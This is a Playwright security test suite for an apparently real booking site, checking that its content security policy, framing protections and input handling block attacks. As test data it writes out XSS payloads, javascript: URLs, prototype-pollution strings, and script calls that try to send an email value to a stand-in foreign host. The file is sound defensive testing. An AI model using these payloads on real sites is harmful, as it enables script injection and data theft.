import type { Page } from '@playwright/test';
import { startForeignSite } from './support/foreign-site';
import { expectStep, serviceButton } from './support/booking';
import { routesAndMissing } from './support/routes';
import { expect, test as base } from './support/test';

// What an attacker would do who got a piece of text, mark-up or script into a page. All of it must fail, on every route.

type ForeignSite = Awaited<ReturnType<typeof startForeignSite>>;

const test = base.extend<{ foreign: ForeignSite }>({
  foreign: async ({}, use) => {
    const site = await startForeignSite();
    await use(site);
    await site.stop();
  },
  reachableOrigins: async ({ foreign }, use) => use([foreign.origin]),
});

// Here the browser is meant to refuse, and it says so; React says (#418) that it drew a page anew which held foreign mark-up.
test.use({ expectedFaults: [/^policy: |^console: |^page error: .*(Trusted|#418)/] });

/** What ran that must not have run: every attack sets `hacked`. */
const hacked = (page: Page) => page.evaluate(() => Reflect.get(window, 'hacked'));

const policies = (faults: readonly string[]) =>
  faults.flatMap((fault) => /^policy: (\S+)/.exec(fault)?.[1] ?? []);

/** With the headers as hosts send them, and with the `<meta>` alone, as on GitHub Pages. */
for (const way of ['headers', 'meta'] as const) {
  const withoutHeaders = (page: Page) =>
    page.route(
      ({ pathname }) => !pathname.includes('.'),
      async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, headers: { 'content-type': 'text/html; charset=utf-8' } });
      },
    );

  test.describe(`by ${way}`, () => {
    for (const { path, name } of routesAndMissing) {
      test(`mark-up that got into ${name} runs nothing and loads nothing foreign`, async ({
        page,
        foreign,
        faults,
      }) => {
        const evil = `
          <script>hacked = 'inline script'</script>
          <script src="${foreign.origin}/evil.js"></script>
          <script type="module">hacked = 'module'</script>
          <img src="/favicon.ico" onload="hacked = 'handler'">
          <img src="${foreign.origin}/pixel.png">
          <svg onload="hacked = 'svg'"></svg>
          <style>h1 { display: none }</style>
          <p style="display: none">styled</p>
          <link rel="stylesheet" href="${foreign.origin}/evil.css">
          <iframe src="${foreign.origin}/frame"></iframe>
          <iframe srcdoc="<script>parent.hacked = 'srcdoc'</script>"></iframe>
          <object data="${foreign.origin}/object"></object>
          <base href="${foreign.origin}/">
          <a id="script-link" href="javascript:hacked = 'address'">link</a>`;
        // At once, before a page that comes to life mends its mark-up.
        await page.addInitScript(() =>
          document.addEventListener('DOMContentLoaded', () => {
            document.getElementById('script-link')?.click();
            const hidden = [...document.querySelectorAll('h1, p[style]')].filter(
              (one) => !one.checkVisibility(),
            );
            Reflect.set(window, 'found', { base: document.baseURI, hidden: hidden.length });
          }),
        );
        await page.route(
          ({ pathname }) => pathname === path,
          async (route) => {
            const response = await route.fetch();
            const body = (await response.text()).replace(/<body[^>]*>/, (body) => body + evil);
            const headers = way === 'meta' ? { 'content-type': 'text/html; charset=utf-8' } : undefined;
            await route.fulfill({ response, body, ...(headers && { headers }) });
          },
        );
        await page.goto(path);
        const blocked = ['script-src-elem', 'script-src-attr', 'style-src-elem', 'style-src-attr', 'img-src'];
        const alsoBlocked = ['frame-src', 'object-src', 'base-uri'];
        await expect
          .poll(() => policies(faults))
          .toEqual(expect.arrayContaining([...blocked, ...alsoBlocked]));
        expect(await hacked(page)).toBeUndefined();
        expect(await page.evaluate(() => Reflect.get(window, 'found'))).toEqual({
          base: page.url(),
          hidden: 0,
        });
        expect(foreign.requests).toEqual([]);
      });

      test(`script that got into ${name} makes no code of text and sends nothing away`, async ({
        page,
        foreign,
        faults,
      }) => {
        if (way === 'meta') await withoutHeaders(page);
        await page.goto(path);
        const outcome = await page.evaluate(async (origin) => {
          // What the test itself evaluates is free of the policy; what runs later is not.
          await new Promise((later) => setTimeout(later));
          const attempts: Record<string, () => unknown> = {
            eval: () => window.eval('hacked = "eval"'),
            Function: () => new Function('hacked = "Function"')(),
            timer: () => Reflect.apply(setTimeout, window, ['hacked = "timer"']),
            innerHTML: () => (document.body.innerHTML += '<img src="/x" onerror="hacked = 1">'),
            insert: () => document.body.insertAdjacentHTML('beforeend', '<b onclick="hacked = 1">b</b>'),
            write: () => document.write('<script>hacked = "write"</script>'),
            document: () => new DOMParser().parseFromString('<b>b</b>', 'text/html'),
            'script address': () =>
              document.head.append(
                Object.assign(document.createElement('script'), { src: `${origin}/a.js` }),
              ),
            'script text': () =>
              document.head.append(
                Object.assign(document.createElement('script'), { text: 'hacked = "text"' }),
              ),
            'foreign rule': () =>
              document.head.append(
                Object.assign(document.createElement('script'), {
                  type: 'speculationrules',
                  text: `{"prefetch":[{"urls":["${origin}/ahead"]}]}`,
                }),
              ),
            'other policy': () => Reflect.get(window, 'trustedTypes').createPolicy('evil', {}),
            'same policy': () => Reflect.get(window, 'trustedTypes').createPolicy('default', {}),
            fetch: () => fetch(`${origin}/fetch`),
            import: () => import(`${origin}/import.js`),
            request: () =>
              new Promise((resolve, reject) => {
                const request = Object.assign(new XMLHttpRequest(), { onload: resolve, onerror: reject });
                request.open('GET', `${origin}/request`);
                request.send();
              }),
          };
          const silent: (() => unknown)[] = [
            () => navigator.sendBeacon(`${origin}/beacon`, 'a@b.c'),
            () => (new Image().src = `${origin}/picture`),
            () => new WebSocket(origin.replace('http', 'ws')),
            () => new Worker('/_next/static/worker.js'),
            () => new EventSource(`${origin}/events`),
            () =>
              document.head.append(
                Object.assign(document.createElement('link'), { rel: 'prefetch', href: origin }),
              ),
            () => document.body.append(Object.assign(document.createElement('iframe'), { src: origin })),
          ];
          const succeeded: string[] = [];
          for (const [name, attempt] of Object.entries(attempts)) {
            try {
              await attempt();
              succeeded.push(name);
            } catch {}
          }
          for (const attempt of silent) {
            try {
              attempt();
            } catch {}
          }
          const form = Object.assign(document.createElement('form'), {
            action: `${origin}/form`,
            method: 'post',
          });
          form.append(Object.assign(document.createElement('input'), { name: 'email', value: 'a@b.c' }));
          document.body.append(form);
          // Last, and after the answer: a browser that was refused a form seems to be under way for a while.
          setTimeout(() => form.requestSubmit(), 50);
          return succeeded;
        }, foreign.origin);
        expect(outcome).toEqual([]);
        expect(await hacked(page)).toBeUndefined();
        // Where no script is started no address may become a worker's at all; elsewhere the site's own may, and is refused next.
        const worker = path === '/' || path === '/checkout' ? ['worker-src'] : [];
        const blocked = ['connect-src', 'img-src', 'frame-src', 'form-action', ...worker];
        await expect.poll(() => policies(faults)).toEqual(expect.arrayContaining(blocked));
        expect(foreign.requests).toEqual([]);
      });
    }
  });
}

test.describe('a page of somebody else', () => {
  const framing = (address: string) => `<!doctype html><title>x</title><iframe src="${address}"></iframe>`;

  for (const { path, name } of routesAndMissing) {
    test(`can't show ${name} in a frame where headers are sent`, async ({ page, baseURL }) => {
      const site = await startForeignSite(() => framing(`${baseURL}${path}`));
      await page.route(`${site.origin}/`, (route) => route.continue());
      await page.goto(site.origin);
      const [, frame] = page.frames();
      expect(frame?.url()).toMatch(/^chrome-error:/);
      await site.stop();
    });

    test(`can show ${name} where none are sent, but nothing in it can be pressed`, async ({
      page,
      baseURL,
    }) => {
      const site = await startForeignSite(() => framing(`${baseURL}${path}`));
      await page.route(`${site.origin}/`, (route) => route.continue());
      await page.route(`${baseURL}${path}`, async (route) => {
        const response = await route.fetch();
        await route.fulfill({ response, headers: { 'content-type': 'text/html; charset=utf-8' } });
      });
      await page.goto(site.origin);
      const framed = page.frameLocator('iframe');
      await expect(framed.locator('html')).toHaveAttribute('inert');
      const reached = await framed
        .locator('a[href]')
        .first()
        .evaluate((link: HTMLElement) => {
          link.focus();
          const { left, top, width, height } = link.getBoundingClientRect();
          const pressed = document.elementFromPoint(left + width / 2, top + height / 2);
          return [document.activeElement === link, document.body.contains(pressed)];
        });
      expect(reached).toEqual([false, false]);
      await site.stop();
    });
  }
});

test.describe('addresses that somebody made up', () => {
  test.use({ expectedFaults: [] });

  const evil = '<img src=x onerror=hacked=1>';
  for (const address of [
    `?service=${encodeURIComponent(evil)}`,
    '?service=__proto__',
    '?service=constructor&service=dishwasher%00',
    '?__proto__[polluted]=1&constructor[prototype][polluted]=1&service[__proto__][polluted]=1',
    '?service=javascript:hacked=1#javascript:hacked=1',
    `#${encodeURIComponent(evil)}`,
    '#__proto__',
    '#:~:text=hacked',
    `?step=3&step=${'9'.repeat(400)}`,
    '?step=__proto__&service=toString',
    '?%E0%A4%A',
  ]) {
    test(`/checkout${address.slice(0, 60)} begins at step 1, runs nothing and pollutes nothing`, async ({
      page,
    }) => {
      await page.goto(`/checkout${address}`);
      await expectStep(page, 1);
      await expect(serviceButton(page, 'Dishwasher')).not.toHaveAttribute('popovertarget');
      expect(await hacked(page)).toBeUndefined();
      expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined();
      await expect(page.getByRole('main').locator('img[src="x"]')).toHaveCount(0);
      await serviceButton(page, 'Dishwasher').click();
      await expectStep(page, 2);
    });
  }

  test('no page reads anything into a hash or a query that is not its own', async ({ page }) => {
    for (const { path } of routesAndMissing) {
      await page.goto(`${path}?q=${encodeURIComponent(evil)}#${encodeURIComponent(evil)}`);
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      expect(await hacked(page)).toBeUndefined();
      await expect(page.locator('img[src="x"]')).toHaveCount(0);
    }
  });
});

test.describe('what somebody left in the storage', () => {
  test.use({ expectedFaults: [] });

  const evil = '<img src=x onerror=hacked=1>';
  for (const [name, stored] of [
    ['mark-up', JSON.stringify({ version: 1, serviceId: evil, step: 3, information: { firstName: evil } })],
    [
      'a polluting draft',
      '{"version":1,"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}',
    ],
    ['a deep nest', '['.repeat(20_000)],
    ['a megabyte', JSON.stringify({ version: 1, serviceId: 'x'.repeat(1_000_000) })],
  ] as const) {
    test(`${name} is not believed`, async ({ page }) => {
      await page.goto('/terms');
      await page.evaluate((value) => sessionStorage.setItem('booking', value), stored);
      await page.goto('/checkout');
      await expectStep(page, 1);
      await serviceButton(page, 'Dishwasher').click();
      await expectStep(page, 2);
      expect(await hacked(page)).toBeUndefined();
      expect(await page.evaluate(() => Reflect.get({}, 'polluted'))).toBeUndefined();
    });
  }
});
